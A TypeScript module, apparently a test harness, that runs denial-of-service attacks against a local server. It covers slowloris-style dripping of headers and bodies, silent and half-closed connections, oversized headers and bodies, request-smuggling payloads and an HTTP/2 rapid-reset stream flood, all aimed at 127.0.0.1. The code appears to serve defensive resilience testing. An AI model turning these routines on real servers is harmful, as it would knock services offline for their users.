import { connect as connectHttp2 } from 'node:http2';
import { createConnection, type Socket } from 'node:net';
import { smuggled } from './smuggled.ts';

/** What is attacked: a port of this machine, and a path of it to which something may be sent. */
export type SiegeTarget = {
  readonly port: number;
  readonly path: string;
  /** A body that the path takes, as JSON. */
  readonly body: string;
  /** A path that everyone may read. */
  readonly open: string;
};

/** An attack that goes on until it is stopped. */
export type Siege = {
  /** How often something was tried so far. */
  readonly tried: () => number;
  readonly stop: () => void;
};

/** The attackers' address: they share no connections with those whom they would harm. */
const ADDRESS = '127.0.0.66';
const EVERY_MS = 20;
/** A slow connection that was closed is opened anew after so long: what is attacked is not the connecting. */
const REOPEN_MS = 500;
/** So many connections at a time: fewer than an address may have at either port. */
const CONNECTIONS = 80;
const LONG = 200_000;

/** Attacks on a port of HTTP/1.1, by name. */
export const SIEGES = {
  'headers a letter at a time': (target) =>
    drip(target, ({ path }) => `POST ${path} HTTP/1.1\r\nhost: x\r\nx-slow: `),
  'bodies a letter at a time': (target) =>
    drip(target, ({ path }) => `POST ${path} HTTP/1.1\r\nhost: x\r\ncontent-length: 100000\r\n\r\n`),
  'silent connections': (target) => drip(target, () => ''),
  'half-closed connections': (target) =>
    repeat(target, (socket, { path, body }) => {
      const about = `content-type: application/json\r\ncontent-length: ${body.length}`;
      socket.end(`POST ${path} HTTP/1.1\r\nhost: x\r\n${about}\r\n\r\n${body}`);
    }),
  'connections closed within a request': (target) =>
    repeat(target, (socket, { path }) => {
      socket.write(`POST ${path} HTTP/1.1\r\nhost: x\r\ncontent-length: 100\r\n\r\n{`);
      socket.resetAndDestroy();
    }),
  'headers, addresses and bodies beyond all bounds': (target) =>
    repeat(target, (socket, { path }, turn) => {
      const long = 'a'.repeat(LONG);
      const texts = [
        `POST ${path} HTTP/1.1\r\nhost: x\r\nx-long: ${long}\r\n\r\n`,
        `POST ${path}?${long} HTTP/1.1\r\nhost: x\r\n\r\n`,
        `POST ${path} HTTP/1.1\r\nhost: x\r\n${`${'x: y\r\n'.repeat(LONG / 10)}`}\r\n`,
        `POST ${path} HTTP/1.1\r\nhost: x\r\ncontent-length: 999999999999\r\n\r\n${long}`,
      ];
      socket.write(texts[turn % texts.length] ?? '');
    }),
  'requests hidden in others': (target) => {
    const texts = Object.values(smuggled(target.path, target.open));
    return repeat(target, (socket, _, turn) => socket.write(texts[turn % texts.length] ?? ''));
  },
} as const satisfies Readonly<Record<string, (target: SiegeTarget) => Siege>>;

/** Opens streams of HTTP/2 and takes each back at once, as many as there may be at a time, and anew where it is thrown out. */
export function resetStreams({ port, path }: SiegeTarget): Siege {
  let tried = 0;
  let session = open();
  function open() {
    const reached = () => createConnection({ host: '127.0.0.1', port, localAddress: ADDRESS });
    const opened = connectHttp2(`http://127.0.0.1:${port}`, { createConnection: reached });
    return opened.on('error', () => undefined);
  }
  const timer = setInterval(() => {
    if (session.closed || session.destroyed) session = open();
    for (let turn = 0; turn < 10 && !session.destroyed; turn += 1) {
      const stream = session.request({ ':method': 'POST', ':path': path, 'content-length': '100' });
      stream.on('error', () => undefined);
      stream.close();
      tried += 1;
    }
  }, EVERY_MS);
  return {
    tried: () => tried,
    stop: () => {
      clearInterval(timer);
      session.destroy();
    },
  };
}

/** Keeps connections that begin with a text and go on a letter at a time; each that is closed is opened anew. */
function drip(target: SiegeTarget, begin: (target: SiegeTarget) => string): Siege {
  let tried = 0;
  let isOver = false;
  const sockets = new Set<Socket>();
  const open = () => {
    if (isOver) return;
    tried += 1;
    const socket = reach(target);
    sockets.add(socket);
    const text = begin(target);
    if (text !== '') socket.write(text);
    socket.once('close', () => {
      sockets.delete(socket);
      setTimeout(open, REOPEN_MS).unref();
    });
  };
  for (let opened = 0; opened < CONNECTIONS; opened += 1) open();
  const dripping = begin(target) === '' ? undefined : setInterval(() => write(sockets), 10 * EVERY_MS);
  return { tried: () => tried, stop: () => end([...sockets], dripping, () => (isOver = true)) };
}

function write(sockets: ReadonlySet<Socket>): void {
  for (const socket of sockets) if (socket.writable) socket.write('a');
}

/** Does something with a new connection again and again. */
function repeat(
  target: SiegeTarget,
  work: (socket: Socket, target: SiegeTarget, turn: number) => unknown,
): Siege {
  let tried = 0;
  const sockets = new Set<Socket>();
  const timer = setInterval(() => {
    if (sockets.size >= CONNECTIONS) return;
    const socket = reach(target);
    sockets.add(socket);
    socket.once('close', () => sockets.delete(socket));
    socket.once('connect', () => work(socket, target, tried));
    // What is answered is over, also where the other side would wait for more.
    socket.once('data', () => socket.end());
    tried += 1;
  }, EVERY_MS);
  return { tried: () => tried, stop: () => end([...sockets], timer, () => undefined) };
}

function end(sockets: readonly Socket[], timer: NodeJS.Timeout | undefined, before: () => unknown): void {
  before();
  clearInterval(timer);
  for (const socket of sockets) socket.destroy();
}

function reach({ port }: SiegeTarget): Socket {
  const socket = createConnection({ host: '127.0.0.1', port, localAddress: ADDRESS });
  return socket.on('error', () => undefined).resume();
}
